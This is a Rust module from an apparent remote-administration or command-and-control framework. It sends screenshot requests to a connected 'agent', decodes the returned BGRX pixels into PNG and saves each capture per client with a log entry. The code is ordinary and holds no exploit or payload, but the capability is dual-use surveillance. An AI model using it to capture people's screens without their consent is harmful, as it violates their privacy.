//! Screen capture relay
//!
//! Agents answer an empty capture request with
//! `[width: i32 LE][height: i32 LE]` followed by `width * height` pixels of
//! four bytes each, laid out as a 32-bit device-independent bitmap
//! (blue, green, red, unused). Captures are saved as 8-bit RGB PNG images.

use async_trait::async_trait;
use chrono::Local;
use outpost::proto::{Packet, PacketType};
use outpost::{Capability, CapabilityId, Connection, LogSink, OutpostError, Result};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use tokio::fs;
use tokio::sync::RwLock;
use tracing::{debug, info};

/// Packet type carrying capture requests and captured frames
pub const SCREEN_PACKET: PacketType = PacketType(4);

/// Identity of the screen capability
pub const SCREEN_CAPABILITY_ID: CapabilityId = CapabilityId(2);

const DIMENSIONS_SIZE: usize = 8;
const BYTES_PER_PIXEL: usize = 4;

/// A decoded RGB image
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Screenshot {
    width: u32,
    height: u32,
    rgb: Vec<u8>,
}

impl Screenshot {
    /// Decode `width * height` BGRX pixels, ignoring any trailing bytes
    pub fn from_bgrx(width: i32, height: i32, pixels: &[u8]) -> Result<Self> {
        if width <= 0 || height <= 0 {
            return Err(OutpostError::Capability(format!(
                "invalid screenshot dimensions {}x{}",
                width, height
            )));
        }

        let (width, height) = (width as u32, height as u32);
        let needed = (width as usize)
            .checked_mul(height as usize)
            .and_then(|n| n.checked_mul(BYTES_PER_PIXEL))
            .ok_or_else(|| {
                OutpostError::Capability(format!(
                    "screenshot dimensions {}x{} are too large",
                    width, height
                ))
            })?;

        if pixels.len() < needed {
            return Err(OutpostError::Capability(format!(
                "screenshot data is truncated: expected {} bytes, got {}",
                needed,
                pixels.len()
            )));
        }

        let rgb = pixels[..needed]
            .chunks_exact(BYTES_PER_PIXEL)
            .flat_map(|px| [px[2], px[1], px[0]])
            .collect();

        Ok(Self { width, height, rgb })
    }

    /// Width in pixels
    pub fn width(&self) -> u32 {
        self.width
    }

    /// Height in pixels
    pub fn height(&self) -> u32 {
        self.height
    }

    /// Row-major RGB samples
    pub fn rgb(&self) -> &[u8] {
        &self.rgb
    }

    /// Encode as an 8-bit RGB PNG image
    pub fn to_png(&self) -> Result<Vec<u8>> {
        let mut out = Vec::new();
        let mut encoder = png::Encoder::new(&mut out, self.width, self.height);
        encoder.set_color(png::ColorType::Rgb);
        encoder.set_depth(png::BitDepth::Eight);

        let mut writer = encoder.write_header().map_err(encoding_error)?;
        writer.write_image_data(&self.rgb).map_err(encoding_error)?;
        writer.finish().map_err(encoding_error)?;
        Ok(out)
    }
}

fn encoding_error(err: png::EncodingError) -> OutpostError {
    OutpostError::Capability(format!("failed to encode screenshot: {}", err))
}

/// Requests captures from the active agent and saves what agents send back
pub struct Screen {
    log: Arc<dyn LogSink>,
    dir: PathBuf,
    active: RwLock<Option<Arc<Connection>>>,
}

impl Screen {
    /// Create a screen relay saving captures under `dir`
    pub fn new(log: Arc<dyn LogSink>, dir: impl Into<PathBuf>) -> Self {
        Self {
            log,
            dir: dir.into(),
            active: RwLock::new(None),
        }
    }

    /// Root directory for saved captures
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn parse(mut packet: Packet) -> Result<Screenshot> {
        let mut dimensions = [0u8; DIMENSIONS_SIZE];
        let read = packet.read(&mut dimensions);
        if read.len() < DIMENSIONS_SIZE {
            return Err(OutpostError::Capability(format!(
                "screenshot header is truncated: got {} bytes",
                read.len()
            )));
        }

        let (width, height) = dimensions.split_at(4);
        let width = i32::from_le_bytes([width[0], width[1], width[2], width[3]]);
        let height = i32::from_le_bytes([height[0], height[1], height[2], height[3]]);
        Screenshot::from_bgrx(width, height, packet.data())
    }
}

#[async_trait]
impl Capability for Screen {
    fn id(&self) -> CapabilityId {
        SCREEN_CAPABILITY_ID
    }

    fn name(&self) -> &str {
        "SCREEN"
    }

    fn commands(&self) -> Vec<String> {
        vec!["sc".to_string()]
    }

    fn packet_types(&self) -> Vec<PacketType> {
        vec![SCREEN_PACKET]
    }

    async fn exec(&self, command: &str, _args: &[String]) -> Result<()> {
        if command != "sc" {
            return Err(OutpostError::InvalidCommand(command.to_string()));
        }

        let connection = self
            .active
            .read()
            .await
            .clone()
            .ok_or(OutpostError::NoActiveConnection)?;

        debug!("Requesting a screenshot from {}", connection);
        connection.send_packet(&Packet::new(SCREEN_PACKET)).await
    }

    async fn respond(&self, connection: &Arc<Connection>, packet: Packet) -> Result<()> {
        let screenshot = Self::parse(packet)?;

        let now = Local::now();
        let dir = self.dir.join(now.format("%Y-%m").to_string());
        fs::create_dir_all(&dir).await?;

        let path = dir.join(format!("{}-{}.png", connection.id(), now.timestamp()));
        fs::write(&path, screenshot.to_png()?).await?;

        info!(
            "Saved {}x{} screenshot to {}",
            screenshot.width(),
            screenshot.height(),
            path.display()
        );
        self.log.store(&format!(
            "A screenshot from the client [{}] has been saved as {}.",
            connection.id(),
            path.display()
        ));
        Ok(())
    }

    async fn set_active_connection(&self, connection: Option<Arc<Connection>>) {
        *self.active.write().await = connection;
    }
}
